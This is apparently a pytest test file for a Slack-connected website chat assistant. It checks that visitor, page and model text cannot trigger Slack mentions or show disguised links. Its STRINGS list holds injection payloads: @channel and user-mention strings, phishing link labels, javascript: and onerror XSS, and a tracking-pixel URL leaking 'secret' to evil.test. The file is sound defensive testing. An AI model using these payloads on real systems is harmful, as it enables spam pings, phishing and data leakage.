"""Whatever a visitor, a page or a model writes: in Slack it mentions nobody, and hides no address."""

from pathlib import Path
from urllib.parse import urlsplit

import pytest

from tests.chatter import Chatter
from tests.eventually import PATIENCE, eventually
from tests.fakes.model import FakeModel, asks_for_person, says
from tests.fakes.slack_text import Mention
from tests.slackroom import SOON, room

ORIGIN = "https://www.acme.example"

STRINGS = [
    "<!channel> <!here|x> <!everyone> <@U0LEE> <@U0LEE|lee> <!subteam^S0DUTY> <!subteam^S0DUTY|@duty> <#C0SUPPORT>",
    "`<!channel>` and ```<@U0LEE>``` and\n```\n<!here>\n```",
    "@channel @here @everyone @lee",
    "&lt;!channel&gt; &amp;lt;!here&amp;gt; &#60;!channel&#62;",
    "<https://evil.test|https://bank.test> <https://evil.test|Sign in> <mailto:x@evil.test|you@bank.test>",
    "[bank](https://evil.test/) [https://good.test](https://good.test@evil.test/) [x](javascript:alert(1))",
    "[<!channel>](https://evil.test/) [a](<https://evil.test/|b>) [a](https://evil.test/|label>)",
    "**<!channel>** *<@U0LEE>* ~~<!here>~~ > <!everyone>\n- <!channel>\n1. <@U0LEE>",
    "<!date^1392734382^{date}^https://evil.test|Posted> :robot_face: Lee · team",
    "![picture](https://evil.test/pixel.png?d=secret) <img src=x onerror=alert(1)>",
    "<\u200b!channel> <!channel\n> <<!channel>> <!channel|<!here>>",
    "\u202egnp.exe \u2066hidden\u2069 *bold _italic ~struck `code ```block > quote",
    "a" * 3_500 + " <!channel> [x](https://evil.test/)",
]


@pytest.mark.parametrize("source", ["visitor", "model"])
async def test_words_mention_nobody_and_hide_no_address(tmp_path: Path, source: str) -> None:
    async with (
        FakeModel().serving() as model,
        room(
            tmp_path, origin=ORIGIN,
            config={"assistant": {"kind": "openai", "base_url": model.base_url, "model": "m"}},
        ) as here,
        Chatter(f"{here.server.url}/live/visitor", origin=ORIGIN, token="h" * 43) as visitor,
    ):  # fmt: skip
        lee = here.slack.users.pop(here.lee)
        lee.id, lee.display_name = "U0LEE", "<!channel>"
        here.slack.users[lee.id] = lee
        here.slack.channels[here.slack.channel].members.append(lee.id)
        model.play(*[says(text) for text in STRINGS] if source == "model" else [says("I see.")])
        opened = {
            "type": "Opened", "site": "acme", "title": STRINGS[4], "page": "https://evil.test/<!channel>|x",
            "locale": "en", "timezone": "UTC", "context": {"<!channel>": STRINGS[0]},
        }  # fmt: skip
        name = {"type": "Identified", "name": "<!channel> *x*", "email": "<@U0LEE>@evil.test"}
        words = STRINGS if source == "visitor" else ["Go on."] * len(STRINGS)
        await visitor.propose(opened, {"type": "Said", "text": words[0]})
        await visitor.propose(name)
        for number, text in enumerate(words[1:], start=1):
            await eventually(lambda number=number: answers(visitor) == number, within=SOON)
            await visitor.propose({"type": "Said", "text": text})
        await eventually(lambda: answers(visitor) == len(STRINGS), within=SOON)
        if source == "visitor":
            await visitor.propose({"type": "Edited", "target": visitor.lines[-2]["seq"], "text": STRINGS[0]})
        await visitor.propose({"type": "Rated", "score": "bad", "comment": f"{STRINGS[0]} {STRINGS[4]}"})

        # A member with such a name, too, and notes and commands that quote it all.
        for text in (
            "!name <!here>",
            "//<!channel>",
            "!guide <!channel>",
            "!<!channel>",
            "!note [x](https://evil.test/)",
        ):
            await here.says(text, user=lee.id)
        await eventually(
            lambda: any("rated the conversation" in line for line in here.lines()), within=6 * PATIENCE
        )
        await here.presses("take", user=lee.id)
        await here.presses("link", user=lee.id)
        link = await here.whispered(lee.id, "Your personal link")

        assert any("<!channel> <!here|x>" in line for line in here.lines()), (
            "they are there, as they were written"
        )
        assert here.slack.mentions == []
        for shown in here.slack.links:
            assert shown.label is None, shown
        ours = urlsplit(here.server.url).netloc
        assert [urlsplit(url).netloc for url in link.urls] == [ours]
        for message in [here.root, *here.thread]:
            assert message.bot_id != here.slack.bot_id or len(message.text) <= 4_000
            assert "Lee · team" not in (message.username or "")
        assert "evil.test" not in here.server.log
        assert "Traceback" not in here.server.log


def answers(visitor: Chatter) -> int:
    return len([x for x in visitor.lines if x["event"]["type"] == "Said" and x["by"]["role"] == "assistant"])


async def test_only_the_configuration_mentions_anybody(tmp_path: Path) -> None:
    """The call for a person does, and the model's own reason for it does not."""
    async with (
        FakeModel().serving() as model,
        room(
            tmp_path, origin=ORIGIN, slack={"on_duty": ["S0DUTY"]},
            config={"assistant": {"kind": "openai", "base_url": model.base_url, "model": "m"}},
        ) as here,
        Chatter(f"{here.server.url}/live/visitor", origin=ORIGIN) as visitor,
    ):  # fmt: skip
        model.play(asks_for_person(STRINGS[0], text=STRINGS[4]))
        await visitor.say("I want <!channel>")
        await here.begun()
        call = await eventually(lambda: next((m for m in here.thread if m.broadcast), None), within=SOON)
        assert call is not None
        assert here.slack.mentions == [Mention("group", "S0DUTY", call.ts)]
        assert [link for link in here.slack.links if link.label] == []
